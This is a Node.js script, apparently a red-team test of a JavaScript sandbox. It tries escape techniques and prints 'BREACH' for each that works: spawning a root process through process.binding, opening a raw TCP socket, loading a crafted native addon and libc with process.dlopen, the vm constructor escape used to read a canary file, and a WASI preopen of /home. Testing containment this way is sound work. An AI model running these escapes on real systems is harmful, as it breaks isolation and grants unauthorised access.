// attack: leaves JavaScript by process.binding, process.dlopen of a crafted addon, vm and wasi
// outcome: ok
const fs = require('fs');
const path = require('path');
const vm = require('vm');

const here = path.dirname(__filename);
const spawnOf = () => {
  const { Process } = process.binding('process_wrap');
  const child = new Process();
  const result = child.spawn({ file: '/usr/bin/unshare', args: ['unshare', '-Ur', 'true'], uid: 0, flags: 1 });
  if (result === 0) console.log('BREACH started a process as root');
};
const tcpOf = () => {
  const { TCP, constants } = process.binding('tcp_wrap');
  const socket = new TCP(constants.SERVER);
  if (socket.bind('127.0.0.1', 0) === 0 && socket.listen(1) === 0) console.log('BREACH has a port by its binding');
};
const addonOf = () => {
  fs.writeFileSync(here + '/evil.node', Buffer.from('7f454c460201010000000000000000000300', 'hex'));
  process.dlopen({ exports: {} }, here + '/evil.node');
  console.log('BREACH loaded half a library');
};
const libcOf = () => {
  const target = { exports: {} };
  process.dlopen(target, '/lib/x86_64-linux-gnu/libc.so.6');
  console.log('BREACH has the functions of libc');
};
const vmOf = () => {
  const outer = vm.runInNewContext('this.constructor.constructor("return process")()');
  if (outer.getuid() === 0) console.log('BREACH is root outside of its context');
  const text = outer.mainModule.require('fs').readFileSync('/tmp/redteam-canary', 'latin1');
  console.log('BREACH read', text);
};
const wasiOf = () => {
  const { WASI } = require('wasi');
  new WASI({ version: 'preview1', preopens: { '/': '/home' } });
  if (fs.readdirSync('/home').length >= 0) console.log('BREACH preopens /home');
};
for (const act of [spawnOf, tcpOf, addonOf, libcOf, vmOf, wasiOf]) {
  try {
    act();
  } catch {}
}
console.log('contained');
